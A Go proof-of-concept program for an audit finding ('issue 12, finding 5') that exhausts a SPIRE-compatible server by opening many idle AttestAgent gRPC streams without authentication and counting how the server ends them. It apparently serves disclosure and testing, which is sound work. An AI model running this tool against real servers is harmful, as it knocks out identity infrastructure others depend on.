// idlestreams opens many AttestAgent streams to a SPIRE(-compatible) server's agent API and never sends on them: the
// unauthenticated denial of service of issue 12 (finding 5). It prints "opened N" once every stream is open, then
// "open=N ended=M" each second, and at the end "ended=M codes=..." with the status codes the server ended them with.
// It exits when every stream has ended or after -hold.
package main

import (
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"os"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/emptypb"
)

const method = "/spire.api.server.agent.v1.Agent/AttestAgent"

func main() {
	addr := flag.String("addr", "", "host:port of the agent API")
	n := flag.Int("n", 1000, "streams")
	conns := flag.Int("conns", 10, "connections to spread them over")
	hold := flag.Duration("hold", time.Minute, "give up waiting for the server to end them after this")
	flag.Parse()

	// An attacker does not verify the server: the TLS handshake is all it needs.
	creds := credentials.NewTLS(&tls.Config{InsecureSkipVerify: true}) //nolint:gosec
	ctx, cancel := context.WithTimeout(context.Background(), *hold)
	defer cancel()
	var clients []*grpc.ClientConn
	for i := 0; i < *conns; i++ {
		c, err := grpc.NewClient(*addr, grpc.WithTransportCredentials(creds))
		if err != nil {
			fmt.Fprintf(os.Stderr, "dial: %v\n", err)
			os.Exit(1)
		}
		defer c.Close()
		clients = append(clients, c)
	}
	var ended atomic.Int64
	var mu sync.Mutex
	codes := map[string]int{}
	var wg sync.WaitGroup
	desc := &grpc.StreamDesc{ServerStreams: true, ClientStreams: true}
	for i := 0; i < *n; i++ {
		s, err := clients[i%*conns].NewStream(ctx, desc, method)
		if err != nil {
			fmt.Fprintf(os.Stderr, "stream %d: %v\n", i, err)
			os.Exit(1)
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			err := s.RecvMsg(&emptypb.Empty{})
			if ctx.Err() != nil {
				return // our own deadline: the server never ended it
			}
			mu.Lock()
			codes[status.Code(err).String()]++
			mu.Unlock()
			ended.Add(1)
		}()
	}
	fmt.Printf("opened %d\n", *n)
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for loop := true; loop; {
		select {
		case <-done:
			loop = false
		case <-tick.C:
			e := ended.Load()
			fmt.Printf("open=%d ended=%d\n", int64(*n)-e, e)
		}
	}
	mu.Lock()
	var parts []string
	for c, k := range codes {
		parts = append(parts, fmt.Sprintf("%s:%d", c, k))
	}
	mu.Unlock()
	sort.Strings(parts)
	fmt.Printf("ended=%d codes=%v\n", ended.Load(), parts)
}
